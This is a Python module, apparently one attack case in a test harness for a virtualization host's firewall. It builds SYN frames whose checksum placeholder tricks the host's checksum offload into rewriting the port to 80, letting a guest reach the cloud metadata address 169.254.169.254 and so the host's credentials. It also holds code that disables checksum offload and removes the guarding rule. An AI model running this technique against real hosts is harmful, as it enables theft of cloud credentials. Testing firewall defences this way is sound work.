"""A guest of a host that is a cloud instance leaves a checksum to be made, at the place of a port.

A card with virtio may say of a frame that its checksum is still to be made, from where, and at which place it belongs: the host makes it
where the frame leaves by a card that cannot. So a guest sends a SYN to another port of 169.254.169.254, which is none of our business, and
has the host write 80 over that port behind its last rule. Gained: an answer of the host's own cloud, whose credentials are one request
away. In the way: nothing is forwarded to guests that comes from port 80 of a metadata address (chain `to_bridge`).
"""

import ctypes
import fcntl
import socket
import struct

import attack
import rules
import space
import wire
from attack import Outcome
from attacks.syn_kinds import Sender
from field import Field
from host import Host

# ethtool(8): `--offload DEVICE tx off`.
SIOCETHTOOL, ETHTOOL_STXCSUM = 0x8946, 0x17


def _make_checksums(device: str, by_card: bool) -> None:
    """Says whether a card makes the checksums of what it sends, or the host does before."""
    value = (ctypes.c_uint32 * 2)(ETHTOOL_STXCSUM, by_card)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
        fcntl.ioctl(control, SIOCETHTOOL, struct.pack("16sQ16x", device.encode(), ctypes.addressof(value)))


class Attack(attack.Attack):
    """A neighbour with a card of virtio's abilities; a veth has them too."""

    hosts = ("cloud",)
    attackers = ("victim-2",)
    victims = slice(2, None)
    proofs = (("cloud", 4), ("cloud", 6))

    def prepare(self, host: Host) -> None:
        """The host's card to its cloud makes no checksums."""
        _make_checksums("wan", by_card=False)

    def attack(self, field: Field) -> None:
        """Begins a connection with the cloud, again and again, and hears what comes back."""
        card, sender = wire.Wire(), Sender(field)
        start = 34 if field.family == 4 else 54
        port, answers, sent, length = 20000, 0, 0, 20
        # The sum of all words of a right segment with this is 0. With it in the place of the port the rest sums up to ~80.
        placeholder = 0xFFFF - wire.checksum(wire.pseudo(sender.source, sender.target, wire.TCP, length))
        field.ready()
        while field.goes_on():
            port = 20000 + (port + 1) % 40000
            whole = sender.plain(port)[0]
            frame = whole[:start + 2] + struct.pack("!H", placeholder) + whole[start + 4:start + length]
            card.send_unfinished(frame, start, 2)
            sent += 1
            answers += sum(one.source == sender.target and one.ports == (80, port) for one in card.segments(0.01))
        field.report |= {"sent": sent, "answers": answers}

    def gained(self, outcome: Outcome) -> str | None:
        """What the cloud answered."""
        report = outcome.reports["victim-2"]
        if report["sent"] < 5:
            raise space.Failure(f"only {report['sent']} packets were sent: the attack does not work")
        return f"{report['answers']} answers of the host's cloud" if report["answers"] else None

    def weaken(self, host: Host) -> None:
        """Lets the cloud's answers be forwarded."""
        rules.remove(r"sport 80", "inet", "to_bridge")
        rules.trust_what_leaves()

    def restore(self, host: Host) -> None:
        """The card makes checksums again."""
        _make_checksums("wan", by_card=True)
